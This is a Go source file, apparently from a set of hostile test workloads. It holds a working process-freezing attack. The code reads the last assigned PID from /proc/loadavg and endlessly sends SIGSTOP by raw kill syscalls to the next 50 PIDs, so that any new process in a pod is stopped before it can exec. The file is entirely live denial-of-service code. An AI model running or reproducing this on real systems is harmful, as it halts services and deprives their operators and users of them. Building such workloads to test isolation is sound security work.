package hostile

import (
	"fmt"
	"os"
	"runtime"
	"strings"

	"golang.org/x/sys/unix"
)

// stopper sends SIGSTOP to the next 50 PIDs, for ever: whatever process starts in the pod is stopped
// between its fork and its exec, and again whenever it goes on.
func stopper() error {
	const next = 50
	return aimAtNext(func(last int) {
		for pid := last + 1; pid <= last+next; pid++ {
			signal(pid, unix.SIGSTOP)
		}
	})
}

// aimAtNext calls strike for ever, with the PID that was assigned last.
func aimAtNext(strike func(last int)) error {
	runtime.LockOSThread()
	loads, err := os.Open("/proc/loadavg")
	if err != nil {
		return err
	}
	text := make([]byte, 128)
	for {
		n, err := loads.ReadAt(text, 0)
		if n == 0 {
			return err
		}
		fields := strings.Fields(string(text[:n]))
		var last int
		if _, err := fmt.Sscan(fields[len(fields)-1], &last); err != nil {
			return err
		}
		for range 20 { // reading takes longer than a strike
			strike(last)
		}
	}
}

// signal sends a signal by the shortest way. Most of the PIDs do not exist.
func signal(pid int, sig unix.Signal) {
	_, _, _ = unix.RawSyscall(unix.SYS_KILL, uintptr(pid), uintptr(sig), 0)
}
